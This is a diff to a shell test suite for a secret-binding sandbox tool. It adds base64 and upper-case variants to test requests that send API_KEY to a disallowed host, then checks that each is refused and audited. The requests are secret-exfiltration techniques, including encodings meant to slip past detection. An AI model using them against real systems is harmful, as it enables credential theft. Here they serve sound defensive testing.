@@ -148,11 +148,15 @@ BIG=$TMPDIR_T/big
 BND_LOG_LEVEL=debug bnd --audit-log "$AUD" --secret "API_KEY domain=up.test" \
 	--allow "domain=up.test" --allow "domain=other.test" -- sh -c "
 	pct=\$(printf '%s' \"\$API_KEY\" | sed 's/^b/%62/')
-	for t in header query pct json text basic ws; do
+	b64=\$(printf 'x=%s' \"\$API_KEY\" | base64 -w0)
+	upper=\$(printf '%s' \"\$API_KEY\" | tr a-z A-Z)
+	for t in header query pct b64 upper json text basic ws; do
 		case \$t in
 		header) set -- -H \"X-Key: \$API_KEY\" https://other.test:$P_HTTPS/echo/x-header ;;
 		query) set -- \"https://other.test:$P_HTTPS/echo/x-query?k=\$API_KEY\" ;;
 		pct) set -- \"https://other.test:$P_HTTPS/echo/x-pct?k=\$pct\" ;;
+		b64) set -- -H \"X-Data: \$b64\" https://other.test:$P_HTTPS/echo/x-b64 ;;
+		upper) set -- \"https://other.test:$P_HTTPS/echo/x-upper?K=\$upper\" ;;
 		json) set -- -H 'Content-Type: application/json' -d \"{\\\"k\\\":\\\"\$API_KEY\\\"}\" \
 			https://other.test:$P_HTTPS/echo/x-json ;;
 		text) set -- -d \"\$API_KEY\" https://other.test:$P_HTTPS/echo/x-text ;;
@@ -170,7 +174,7 @@ BND_LOG_LEVEL=debug bnd --audit-log "$AUD" --secret "API_KEY domain=up.test" \
 	true"
 PH2=$(cat "$R/env2" 2>/dev/null)
 check "a new run gets a new placeholder" not test "$PH" = "$PH2"
-for t in header query pct json text basic ws; do
+for t in header query pct b64 upper json text basic ws; do
 	refused() {
 		[ "$(cat "$R/x-$t.code" 2>/dev/null)" = 403 ] &&
 			has "$R/x-$t" "secret API_KEY sent to other.test" &&
@@ -180,6 +184,8 @@ for t in header query pct json text basic ws; do
 	header) what="in a header field" ;;
 	query) what="in the query" ;;
 	pct) what="percent-encoded in the query" ;;
+	b64) what="base64'd in a header field" ;;
+	upper) what="upper-cased in the query" ;;
 	json) what="in a JSON body" ;;
 	text) what="in a text body" ;;
 	basic) what="base64'd in Basic credentials" ;;
@@ -198,7 +204,7 @@ check "the bound host is still served in the same run" test "$(cat "$R/still.cod
 check "each refusal is a warning naming the secret" grep -qE \
 	"DENY GET https://other.test:$P_HTTPS/echo/x-header from curl\[[0-9]+\]: secret API_KEY sent to other.test" "$TMPDIR_T/bnd.log"
 audit_denials() {
-	[ "$(grep -c '"decision":"deny".*"reason":"secret API_KEY sent to other.test"' "$AUD")" -ge 8 ]
+	[ "$(grep -c '"decision":"deny".*"reason":"secret API_KEY sent to other.test"' "$AUD")" -ge 10 ]
 }
 check "each refusal is an audit record: decision deny, reason \"secret API_KEY sent to other.test\"" audit_denials
 
